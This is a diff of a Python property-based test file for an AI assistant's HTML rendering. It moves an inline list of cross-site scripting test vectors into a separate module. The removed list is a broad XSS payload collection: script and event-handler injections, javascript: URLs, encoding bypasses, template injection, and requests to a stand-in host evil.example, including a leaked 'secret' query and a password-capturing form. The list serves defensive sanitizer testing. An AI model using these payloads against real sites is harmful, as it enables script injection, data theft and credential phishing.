@@ -5,7 +5,8 @@ import pytest
 from hypothesis import given, settings
 from hypothesis import strategies as st
 from selectolax.lexbor import LexborHTMLParser, LexborNode
-from surface_fakes import HOSTILE, answer, cite, consult, document
+from surface_fakes import answer, cite, consult, document
+from vectors import VECTORS
 
 from assistant.surfaces import render
 from assistant.surfaces.chat.conversation import Turn
@@ -86,60 +87,6 @@ FIXED = {
 }
 """The attributes that mean something to the page's script, and every value of them."""
 CORPUS = CorpusView((".txt", ".md"), 1_000)
-VECTORS = [
-    HOSTILE,
-    "<script>alert(1)</script>",
-    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
-    "<img src=x onerror=alert(1)>",
-    "<img src=https://evil.example/?q=secret>",
-    '"><script>alert(1)</script>',
-    "'><script>alert(1)</script>",
-    '" onmouseover="alert(1)',
-    "' onfocus='alert(1)' autofocus='",
-    "` onclick=alert(1) `",
-    "<svg/onload=alert(1)>",
-    "<svg><script>alert&#40;1)</script>",
-    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
-    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
-    "<iframe src=javascript:alert(1)>",
-    "<iframe srcdoc='<script>alert(1)</script>'>",
-    "<a href=javascript:alert(1)>click</a>",
-    "<a href='java\tscript:alert(1)'>click</a>",
-    "[click](javascript:alert(1))",
-    "![x](https://evil.example/x.png)",
-    "<style>@import 'https://evil.example/x.css';</style>",
-    "<div style='background:url(https://evil.example/x)'>",
-    "<link rel=stylesheet href=https://evil.example/x.css>",
-    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
-    "<base href=https://evil.example/>",
-    "<form action=https://evil.example><input name=password></form>",
-    "<input autofocus onfocus=alert(1)>",
-    "<button formaction=javascript:alert(1)>x</button>",
-    "<details open ontoggle=alert(1)>",
-    "<video poster=https://evil.example/x><source onerror=alert(1)>",
-    "<audio src=https://evil.example/x>",
-    "<object data=javascript:alert(1)>",
-    "<embed src=javascript:alert(1)>",
-    "<body onload=alert(1)>",
-    "</div></p></article><h1>Spoofed</h1>",
-    "</title></textarea></style></script><script>alert(1)</script>",
-    "<!--><script>alert(1)</script>-->",
-    "<![CDATA[<script>alert(1)</script>]]>",
-    "<noscript><p title='</noscript><script>alert(1)</script>'>",
-    "<template><script>alert(1)</script></template>",
-    "&lt;script&gt;alert(1)&lt;/script&gt;",
-    "&#60;script&#62;alert(1)&#60;/script&#62;",
-    "&amp;&ampamp;&notin",
-    "${alert(1)} ${constructor.constructor('alert(1)')()}",
-    "{{constructor.constructor('alert(1)')()}} {{{value}}}",
-    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
-    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
-    "\u202e<script>txt.exe\u202c",
-    "\u2028<script>\u2029alert(1)",
-    "\0<scr\0ipt>alert(1)</scr\0ipt>",
-    "<mark id=cited-span>forged</mark>",
-    "<a class=cite href=#cite-1-1>1</a>",
-]
 
 texts = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=60)
 markup = st.lists(st.sampled_from(VECTORS) | texts, max_size=3).map(
